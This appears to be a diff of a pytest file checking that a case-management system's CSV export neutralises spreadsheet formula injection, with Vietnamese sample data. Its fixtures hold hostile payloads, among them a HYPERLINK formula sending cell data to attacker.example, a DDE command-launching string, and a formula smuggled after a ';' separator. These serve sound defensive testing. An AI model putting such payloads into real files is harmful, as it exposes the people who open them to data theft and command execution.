@@ -13,11 +13,13 @@ FORMULA = '=HYPERLINK("http://attacker.example/?d="&A2,"Xem hình ảnh")'
 TRAP = CaseStory(name="@SUM(1+1)", description=FORMULA, address="-2+3 Lê Lợi").opened().routed().assigned() \
     .resolved(answer="+cmd|' /C calc'!A0")
 PLAIN = CaseStory().opened().routed().assigned().resolved()
+# A formula after a ";": a spreadsheet that splits fields at ";" would read it as a cell of its own.
+SPLIT = CaseStory(description='Xin hỗ trợ;=HYPERLINK("http://attacker.example")').opened().routed()
 
 
 @pytest.fixture(scope="module", autouse=True)
 async def cases(feed):
-    await feed.apply([TRAP, PLAIN])
+    await feed.apply([TRAP, PLAIN, SPLIT])
 
 
 def exported(api, story):
@@ -30,6 +32,14 @@ def test_a_cell_that_would_start_a_formula_is_kept_as_text(api):
     row = exported(api, TRAP)
     assert row["description"] == "'" + FORMULA
     assert (row["citizen_name"], row["address"], row["answer"]) == ("'@SUM(1+1)", "'-2+3 Lê Lợi", "'+cmd|' /C calc'!A0")
+
+
+def test_every_field_is_quoted_so_no_separator_inside_one_splits_it(api):
+    text = api.get(f"/v1/cases.csv?tracking_code={SPLIT.tracking_code}", role="centre").content.decode("utf-8-sig")
+    header, row = text.splitlines()[:2]
+    assert header.startswith('"case_id","tracking_code"')
+    assert '"Xin hỗ trợ;=HYPERLINK(""http://attacker.example"")"' in row
+    assert row.startswith(f'"{SPLIT.case_id}","') and row.endswith('""'), "empty cells quoted too"
 
 
 def test_vietnamese_text_is_exported_as_written(api):
